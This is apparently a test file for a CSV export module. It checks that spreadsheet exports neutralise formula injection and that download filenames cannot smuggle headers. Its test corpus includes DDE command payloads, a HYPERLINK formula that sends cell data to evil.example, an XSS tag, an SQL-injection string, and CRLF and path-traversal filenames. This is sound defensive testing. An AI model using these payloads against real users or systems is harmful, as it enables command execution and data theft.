import fc from 'fast-check'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { attachment, csvFile, safeCell } from '@/server/download'

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
const nasty = [
  ...signs.map((sign) => `${sign}1+1`), ...signs.map((sign) => `  ${sign}1+1`), ...signs.map((sign) => `\u00a0\u200b${sign}1+1`),
  ...signs.map((sign) => `'${sign}1+1`), ...signs.map((sign) => `Ali;${sign}1+1`), ...signs.map((sign) => `Ali\r\n${sign}1+1`),
  "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1', '\r=1+1', '\n=1+1', '\tplain', "'\tplain", '\ufeff=1+1', '\u0000=1', '\u202e=1+1', '"=1+1', '"";=1+1', 'a";"=1+1', '=IMPORTXML("http://e","//a")',
  'plain, with "quotes"', 'line\nfeed', 'line\r\nbreak', 'semi;colon', "D'Souza", "'", '"', '""', '', ' ', ',', ',,', 'عائشہ خان', '＝محمد', 'é', '𝒜𝓁𝒾', '👩‍🏫', '0', '007', '1e5',
  'TRUE', 'sep=;', 'ID', '<script>alert(1)</script>', "Robert'); DROP TABLE account;--", '-', '+', '=', '@', 'a@b.example', 'x'.repeat(10_000),
]
const beginsFormula = /^[\s\p{C}]*[=+\-@＝＋－＠]|^[\t\r\n]/u

/** Takes the apostrophes away that `safeCell` put there. */
const restored = (cell: string) => cell.replace(/(^|[;\t\r\n])'(?=[\s\p{C}"']*[=+\-@＝＋－＠])|^'(?='*[\t\r\n])/gu, '$1')

async function cells(file: Response): Promise<string[][]> {
  return parse(Buffer.from(await file.arrayBuffer()), { bom: true, relax_column_count: false })
}

test('there are enough nasty names to speak of a corpus', () => {
  expect(new Set(nasty).size).toBeGreaterThanOrEqual(60)
})

test('no cell of an export begins a formula, and each reads as it was written once the apostrophe is gone', async () => {
  const read = await cells(csvFile('nasty.csv', ['Name', 'Number'], nasty.map((name, index) => [name, index])))
  expect(read).toHaveLength(nasty.length + 1)
  read.slice(1).forEach(([name = '', number], index) => {
    expect(name).not.toMatch(beginsFormula)
    expect(restored(name)).toBe(nasty[index])
    expect(number).toBe(String(index))
  })
})

test('a spreadsheet that splits at semicolons, tabs and line ends finds no formula either', async () => {
  const file = csvFile('nasty.csv', ['First', 'Second'], nasty.map((name) => ['x', name]))
  for (const piece of (await file.text()).split(/[;\t\r\n]/)) expect(piece).not.toMatch(/^[\s\p{C}"]*[=+\-@＝＋－＠]/u)
})

test('any text at all comes back and begins no formula', async () => {
  const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.array(fc.constantFrom(...signs, ' ', '\t', '\r', '\n', ';', ',', '"', "'", 'a', '\u200b'), { maxLength: 8 }).map((parts) => parts.join('')))
  await fc.assert(fc.asyncProperty(text, text, async (a, b) => {
    const [, row = []] = await cells(csvFile('x.csv', ['a', 'b', 'end'], [[a, b, 'end']]))
    expect(row.map(restored)).toEqual([a, b, 'end'])
    row.forEach((cell) => expect(cell).not.toMatch(beginsFormula))
  }))
})

test('numbers stay numbers and nothing stays empty', () => {
  expect(safeCell(-5)).toBe(-5)
  expect(safeCell(null)).toBe('')
})

test('the file has its mark, its line ends and its quotes, and nobody keeps or guesses at it', async () => {
  const file = csvFile('Teachers.csv', ['Name', 'Score'], [['Ayesha "Ash" Khan', 75]])
  const bytes = Buffer.from(await file.arrayBuffer())
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  expect(bytes.subarray(3).toString()).toBe('"Name","Score"\r\n"Ayesha ""Ash"" Khan","75"\r\n')
  expect(Object.fromEntries(file.headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8; header=present', 'cache-control': 'private, no-store', 'x-content-type-options': 'nosniff',
  })
})

test.each([
  ['Teachers 2026.csv', `attachment; filename="Teachers 2026.csv"; filename*=UTF-8''Teachers%202026.csv`],
  ['Évaluation.csv', `attachment; filename="Evaluation.csv"; filename*=UTF-8''%C3%89valuation.csv`],
  ['اساتذہ.csv', `attachment; filename="_.csv"; filename*=UTF-8''%D8%A7%D8%B3%D8%A7%D8%AA%D8%B0%DB%81.csv`],
  ['a"b\r\nSet-Cookie: x\\..//etc.csv', `attachment; filename="a b Set-Cookie x .. etc.csv"; filename*=UTF-8''a%20b%20Set-Cookie%20x%20..%20etc.csv`],
  ["it's (1)*.csv", `attachment; filename="it_s (1) .csv"; filename*=UTF-8''it%27s%20%281%29%20.csv`],
  ['../../', `attachment; filename="report"; filename*=UTF-8''report`],
  ['', `attachment; filename="report"; filename*=UTF-8''report`],
])('the header for a file called %j names it safely', (name, header) => {
  expect(attachment(name)).toBe(header)
})
